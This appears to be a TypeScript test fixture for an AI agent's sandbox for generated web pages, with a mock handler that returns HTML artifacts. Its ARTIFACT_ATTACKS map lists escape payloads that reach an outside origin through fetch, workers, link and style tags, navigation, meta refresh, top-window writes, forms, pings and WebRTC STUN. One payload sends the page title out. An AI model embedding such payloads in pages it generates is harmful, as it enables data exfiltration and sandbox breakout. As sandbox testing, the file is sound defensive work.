import type { Handler } from '../../../packages/agent-core/src/handler/handler-context.ts';

const page = (title: string, body: string) =>
  `<!doctype html>\n<html>\n<head><title>${title}</title></head>\n<body>\n${body}\n</body>\n</html>\n<!-- ${'padding '.repeat(25)} -->`;

/** A page that counts presses and keeps the count, as generated pages do. */
export const TIDES = (heading: string) =>
  page(
    'Tide table',
    `<h1>${heading}</h1><button>0</button><script>
localStorage.setItem('count', '0');
document.querySelector('button').onclick = (event) => {
  localStorage.setItem('count', String(Number(localStorage.getItem('count')) + 1));
  event.target.textContent = localStorage.getItem('count');
};
</script>`,
  );

export const COUNTER = `import { useState } from 'react';

interface Props { readonly start?: number }

export default function TideCounter({ start = 1 }: Props) {
  const [count, setCount] = useState<number>(start);
  return (
    <main>
      <h1>Counter</h1>
      <button onClick={() => setCount(count + 1)}>{\`Pressed \${count}\`}</button>
    </main>
  );
}
`;

/** Where an artifact tries to get: a server over HTTP, and one over UDP as STUN. */
interface Targets {
  readonly origin: string;
  readonly udpPort: number;
}

const stun = (udpPort: number) =>
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;

/** Attacks by the name of what they use. Each runs in an artifact of its own. */
export const ARTIFACT_ATTACKS: Readonly<Record<string, (targets: Targets) => string>> = {
  requests: ({ origin }) => `<script>
    const attempts = [
      () => fetch('${origin}/fetch', { mode: 'no-cors' }), () => navigator.sendBeacon('${origin}/beacon', 'x'),
      () => { new Image().src = '${origin}/image'; }, () => new WebSocket('${origin.replace('http', 'ws')}/socket'),
      () => new EventSource('${origin}/events'), () => import('${origin}/module.js'),
      () => { const request = new XMLHttpRequest(); request.open('GET', '${origin}/xhr'); request.send(); },
      () => fetchLater('${origin}/later', { activateAfter: 0 }), () => new WebTransport('${origin.replace('http', 'https')}/transport'),
      () => new Worker(URL.createObjectURL(new Blob(['fetch("${origin}/worker"); importScripts("${origin}/worker.js")']))),
    ];
    for (const attempt of attempts) try { Promise.resolve(attempt()).catch(() => {}); } catch {}
  </script>`,
  markup: ({ origin }) => `
    <link rel="stylesheet" href="${origin}/sheet"><link rel="prefetch" href="${origin}/prefetch"><link rel="preconnect" href="${origin}">
    <link rel="preload" as="image" href="${origin}/preload"><link rel="modulepreload" href="${origin}/modulepreload"><link rel="dns-prefetch" href="${origin}">
    <link rel="icon" href="${origin}/icon"><link rel="manifest" href="${origin}/manifest"><base href="${origin}/base/"><img src="relative">
    <style>@import "${origin}/import"; body { background: url(${origin}/ground) } @font-face { font-family: x; src: url(${origin}/font) } p { font-family: x }</style>
    <p style="background: url(${origin}/inline)">x</p><img src="${origin}/img" srcset="${origin}/set 2x" attributionsrc="${origin}/attribution">
    <video src="${origin}/video" poster="${origin}/poster" autoplay></video><audio src="${origin}/audio" autoplay></audio>
    <object data="${origin}/object"></object><embed src="${origin}/embed"><iframe src="${origin}/iframe"></iframe>
    <svg><image href="${origin}/svg"/><use href="${origin}/use#a"/></svg>
    <script src="${origin}/script.js"></script><script type="speculationrules">{"prefetch":[{"urls":["${origin}/rule"],"eagerness":"immediate"}],"prerender":[{"urls":["${origin}/prerender"],"eagerness":"immediate"}]}</script>`,
  'its own navigation': ({ origin }) => `<script>location = '${origin}/location?' + document.title</script>`,
  'a data URL': ({ origin }) =>
    `<script>location = 'data:text/html,<script>fetch("${origin}/data")<\\/script><img src="${origin}/data-image">'</script>`,
  'a blob URL': ({ origin }) =>
    `<script>location = URL.createObjectURL(new Blob(['<img src="${origin}/blob">'], { type: 'text/html' }))</script>`,
  'a refresh': ({ origin }) => `<meta http-equiv="refresh" content="0; url=${origin}/refresh">`,
  'the top window': ({ origin }) =>
    `<script>for (const attempt of [() => { top.location = '${origin}/top'; }, () => window.open('${origin}/open'), () => { parent.document.title = 'pwned'; }, () => { parent.pwned = 1; }, () => parent.postMessage({ type: 'error', message: 'pwned' }, '*')]) try { attempt(); } catch {}</script>`,
  'forms and pings': ({ origin }) =>
    `<form id="form" action="${origin}/form" target="_top"><input name="x"></form><a id="link" href="${origin}/link" target="_blank" ping="${origin}/ping" attributionsrc="${origin}/source">x</a><a id="save" href="data:,x" download="x">x</a><script>try { form.submit(); } catch {} link.click(); save.click();</script>`,
  WebRTC: ({ udpPort }) => `<script>${stun(udpPort)}</script>`,
  'WebRTC of a nested frame': ({ udpPort, origin }) => {
    const nested = `<iframe srcdoc="<script>${stun(udpPort)}</script><img src='${origin}/nested'>"></iframe>`;
    const text = JSON.stringify(nested).replaceAll('</', '<\\/');
    return `${nested}<div id="host"></div><script>host.attachShadow({ mode: 'closed' }).innerHTML = ${text}</script>`;
  },
};

/** Answers with artifacts: `tides`, `tides again`, `counter`, `file`, `broken`, `chart`, `busy`, `far`, or the attack that the message names. */
export function createArtifactHandler(targets: Targets): Handler {
  const fenced = (language: string, code: string) => `Here it is.\n\n\`\`\`${language}\n${code}\n\`\`\`\n\nDone.`;
  return async function* ({ messages }) {
    const text = String(messages.at(-1)?.content);
    const attack = ARTIFACT_ATTACKS[text];
    if (attack) return yield fenced('html', page('Attack', `${attack(targets)}<p id="ran">ran</p>`));
    switch (text) {
      case 'tides':
        return yield fenced('html', TIDES('First'));
      case 'tides again':
        return yield fenced('html', TIDES('Second'));
      case 'counter':
        return yield fenced('tsx', COUNTER);
      case 'broken':
        return yield fenced('html', page('Broken', '<script>tides.sort()</script>'));
      case 'chart':
        return yield fenced('jsx', `import { LineChart } from 'recharts';\nexport { LineChart };\n${COUNTER}`);
      case 'busy':
        // It reports that it has begun, and then never yields.
        return yield fenced(
          'html',
          page(
            'Busy',
            `<script>addEventListener('unhandledrejection', () => setTimeout(() => { for (;;); })); Promise.reject(new Error('It begins'));</script>`,
          ),
        );
      case 'far':
        return yield fenced(
          'html',
          page(
            'Far',
            `<p></p><script>fetch('${targets.origin}/allowed', { mode: 'no-cors' }).then(() => { document.querySelector('p').textContent = 'reached'; })</script>`,
          ),
        );
      case 'file': {
        const write = JSON.stringify({ path: 'pages/harbor.html', content: TIDES('Harbor') });
        yield {
          type: 'step',
          id: 'w',
          step: 'Write pages/harbor.html',
          tool_name: 'write_file',
          args: write,
          ok: true,
        };
        const edit = JSON.stringify({ path: 'pages/harbor.html', old_text: 'Harbor', new_text: 'Port' });
        yield { type: 'step', id: 'e', step: 'Edit pages/harbor.html', tool_name: 'edit_file', args: edit, ok: true };
        return yield 'Written.';
      }
      default:
        return yield `You said ${text}.`;
    }
  };
}
